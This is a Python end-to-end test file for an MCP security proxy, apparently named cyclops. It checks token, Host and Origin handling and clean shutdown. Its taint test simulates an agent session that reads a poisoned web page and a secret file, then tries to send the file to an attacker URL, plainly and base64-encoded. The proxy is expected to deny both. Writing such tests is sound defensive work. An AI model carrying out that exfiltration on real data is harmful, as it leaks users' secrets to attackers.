"""The Streamable HTTP front: bearer token, Host and Origin checks, the size cap, binding rules,
separate taint per HTTP session, and a clean stop on SIGTERM."""

from __future__ import annotations

import base64
import json
import os
import signal
import subprocess
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import anyio
import httpx2
import jsonschema
import pytest
from e2e_support import (
    ATTACKER_URL,
    FAKE_KEY,
    PYTHON,
    SCHEMA_PATH,
    Host,
    HttpCyclops,
    ProcessId,
    call_tool,
    connect_http,
    descendants,
    free_port,
    http_cyclops,
    is_denial,
    kill_all,
    load_json,
    node_bin,
    python_server_entry,
    serve_args,
    server_entry,
    stop,
    survivors,
    text_of,
    wait_for_port,
    write_downstream,
)

pytestmark = pytest.mark.anyio

INITIALIZE: dict[str, Any] = {
    "jsonrpc": "2.0",
    "id": 1,
    "method": "initialize",
    "params": {
        "protocolVersion": "2025-11-25",
        "capabilities": {},
        "clientInfo": {"name": "raw-http-e2e", "version": "1"},
    },
}
MCP_ACCEPT = "application/json, text/event-stream"
# Private by its path (``*secret*``), not by its content: no secret rule matches it, so whether
# sending it is allowed depends only on what the sending session read before.
PLANS = (
    "Project Halcyon merger memo: Ardent Biotics acquires Corvid Labs for 412 million, "
    "announcement embargoed until the ninth of June; board codeword mistral-quokka-vellum.\n"
)


@dataclass
class Setup:
    work: Path
    workspace: Path
    downstream: Path
    posted: Path
    verdicts: Path


@dataclass
class Front:
    setup: Setup
    cyclops: HttpCyclops


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory) -> Setup:
    work = tmp_path_factory.mktemp("http-front")
    workspace = work / "workspace"
    (workspace / ".ssh").mkdir(parents=True)
    (workspace / ".ssh" / "id_rsa").write_text(FAKE_KEY)
    (workspace / "secret-plans.txt").write_text(PLANS)
    posted = work / "posted.jsonl"
    downstream = write_downstream(
        work / "downstream.toml",
        [
            server_entry("filesystem", node_bin("mcp-server-filesystem"), [str(workspace)]),
            python_server_entry("web", "cyclops.examples.servers.web"),
            python_server_entry("notify", "cyclops.examples.servers.notify", "--log", str(posted)),
        ],
    )
    verdicts = work / "verdicts"
    verdicts.mkdir()
    return Setup(work, workspace, downstream, posted, verdicts)


@pytest.fixture(scope="module")
async def front(setup: Setup) -> AsyncIterator[Front]:
    args = serve_args(setup.downstream, setup.verdicts, mode="prevent")
    async with http_cyclops(args, setup.work) as cyclops:
        yield Front(setup, cyclops)


async def post(
    front: Front,
    body: bytes | None = None,
    *,
    token: str | None = None,
    headers: dict[str, str] | None = None,
) -> httpx2.Response:
    """One raw POST to /mcp (an initialize request unless ``body`` is given)."""
    sent = {"Content-Type": "application/json", "Accept": MCP_ACCEPT, **(headers or {})}
    if token is not None:
        sent["Authorization"] = f"Bearer {token}"
    content = body if body is not None else json.dumps(INITIALIZE).encode()
    with anyio.fail_after(20):
        async with httpx2.AsyncClient(timeout=15) as client:
            return await client.post(front.cyclops.url, content=content, headers=sent)


def json_rpc_messages(response: httpx2.Response) -> list[dict[str, Any]]:
    """The JSON-RPC messages of a response, whether JSON or an SSE stream."""
    if response.headers.get("content-type", "").startswith("application/json"):
        return [response.json()]
    return [
        json.loads(line[len("data:") :])
        for line in response.text.splitlines()
        if line.startswith("data:") and line[len("data:") :].strip()
    ]


# -- who may talk to it ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "authorization",
    [None, "Bearer not-the-token", "Basic dXNlcjpwYXNz", "Bearer", ""],
    ids=["missing", "wrong token", "other scheme", "empty bearer", "empty header"],
)
async def test_a_request_without_the_right_bearer_token_gets_401(
    front: Front, authorization: str | None
) -> None:
    headers = {} if authorization is None else {"Authorization": authorization}
    response = await post(front, headers=headers)
    assert response.status_code == 401
    assert "mcp-session-id" not in response.headers


async def test_the_right_token_opens_a_session(front: Front) -> None:
    response = await post(front, token=front.cyclops.token)
    assert response.status_code == 200
    assert response.headers.get("mcp-session-id")
    [message] = json_rpc_messages(response)
    assert message["id"] == 1
    assert message["result"]["protocolVersion"] == "2025-11-25"
    assert message["result"]["serverInfo"]["name"] == "cyclops"


async def test_a_foreign_host_header_gets_421(front: Front) -> None:
    headers = {"Host": f"attacker.example:{front.cyclops.port}"}
    response = await post(front, token=front.cyclops.token, headers=headers)
    assert response.status_code == 421


async def test_a_foreign_browser_origin_gets_403(front: Front) -> None:
    headers = {"Origin": "https://attacker.example"}
    response = await post(front, token=front.cyclops.token, headers=headers)
    assert response.status_code == 403


async def test_a_body_over_4_mib_gets_413(front: Front) -> None:
    padding = "x" * (4 * 1024 * 1024)
    body = json.dumps({**INITIALIZE, "params": {**INITIALIZE["params"], "pad": padding}})
    response = await post(front, body.encode(), token=front.cyclops.token)
    assert response.status_code == 413


async def test_binding_a_public_address_without_a_token_exits_with_code_2(setup: Setup) -> None:
    environment = {k: v for k, v in os.environ.items() if k != "CYCLOPS_TOKEN"}
    port = free_port()
    args = serve_args(setup.downstream, setup.verdicts)
    completed = await anyio.to_thread.run_sync(
        lambda: subprocess.run(
            [PYTHON, *args, "--http", "--host", "0.0.0.0", "--port", str(port)],
            env=environment,
            capture_output=True,
            text=True,
            timeout=30,
            check=False,
        )
    )
    assert completed.returncode == 2, completed.stderr


# -- sessions --------------------------------------------------------------------------------


async def wait_for_verdict(
    path: Path, done: Callable[[dict[str, Any]], bool], timeout: float = 10.0
) -> dict[str, Any]:
    """The verdict file once it says what ``done`` waits for (cyclops writes it off the loop)."""
    with anyio.fail_after(timeout):
        while True:
            if path.exists():
                verdict: dict[str, Any] = load_json(path)
                if done(verdict):
                    return verdict
            await anyio.sleep(0.05)


async def test_two_http_sessions_keep_their_taint_apart(front: Front) -> None:
    setup = front.setup
    plans_path = str(setup.workspace / "secret-plans.txt")
    host_a, host_b = Host(), Host()
    url, token = front.cyclops.url, front.cyclops.token
    async with connect_http(url, token, host_a) as a, connect_http(url, token, host_b) as b:
        page = await call_tool(a, "fetch_page", {"url": "https://blog.example.org/"})
        plans = await call_tool(a, "read_text_file", {"path": plans_path})
        assert page.get("isError") is not True
        assert text_of(plans) == PLANS

        # B never read untrusted content (nor the file): sending the same text is its business.
        from_b = await call_tool(b, "send_message", {"url": ATTACKER_URL, "text": PLANS})
        assert from_b.get("isError") is not True

        # A read a poisoned page and then the file: the same call is denied for A.
        from_a = await call_tool(a, "send_message", {"url": ATTACKER_URL, "text": PLANS})
        assert is_denial(from_a), from_a
        assert "exfiltration" in text_of(from_a)
        encoded = base64.b64encode(PLANS.encode()).decode()
        again = await call_tool(a, "send_message", {"url": ATTACKER_URL, "text": encoded})
        assert is_denial(again), again

    posted = [json.loads(line) for line in setup.posted.read_text().splitlines()]
    assert [p["text"] for p in posted] == [PLANS]

    assert host_a.http_session_id
    assert host_b.http_session_id
    assert host_a.http_session_id != host_b.http_session_id
    path_a = setup.verdicts / f"http-{host_a.http_session_id}.session.json"
    path_b = setup.verdicts / f"http-{host_b.http_session_id}.session.json"
    verdict_a = await wait_for_verdict(path_a, lambda v: v["metrics"]["calls"] == 4)
    verdict_b = await wait_for_verdict(path_b, lambda v: v["metrics"]["calls"] == 1)
    assert verdict_a["toxic"] is True
    assert verdict_a["metrics"]["denied"] == 2
    assert verdict_b["toxic"] is False
    assert verdict_b["metrics"]["allowed"] == 1
    assert verdict_a["session"] != verdict_b["session"]
    schema = load_json(SCHEMA_PATH)
    jsonschema.validate(verdict_a, schema)
    jsonschema.validate(verdict_b, schema)


# -- stopping --------------------------------------------------------------------------------


async def test_sigterm_stops_the_http_front_cleanly(setup: Setup) -> None:
    """Exit status 0, every child already gone when cyclops has exited, the verdict written."""
    work = setup.work / "sigterm"
    work.mkdir()
    verdicts = work / "verdicts"
    port = free_port()
    token = "sigterm-e2e-token"
    args = serve_args(setup.downstream, verdicts, mode="prevent")
    stderr_path = work / "cyclops.stderr"
    with stderr_path.open("w") as stderr:
        process = await anyio.open_process(
            [PYTHON, *args, "--http", "--port", str(port)],
            stdin=subprocess.DEVNULL,
            stdout=stderr,
            stderr=stderr,
            env={**os.environ, "CYCLOPS_TOKEN": token},
        )
    children: list[ProcessId] = []
    try:
        await wait_for_port(port, process, stderr_path, 30)
        host = Host()
        url = f"http://127.0.0.1:{port}/mcp"
        async with connect_http(url, token, host) as session:
            page = await call_tool(session, "fetch_page", {"url": "https://blog.example.org/"})
            assert page.get("isError") is not True
            children = descendants(process.pid)
            assert len(children) >= 3, children
            code = await stop(process, signal.SIGTERM)
            left = survivors(children)
    finally:
        if process.returncode is None:
            process.kill()
        with anyio.CancelScope(shield=True):
            await process.aclose()
        kill_all(children)  # only if the test failed: they should all be gone
    log = stderr_path.read_text(errors="replace")
    assert (code, left) == (0, []), f"exit status {code}, still running: {left}\n{log}"
    assert list(verdicts.glob("http-*.session.json")), "no verdict written"
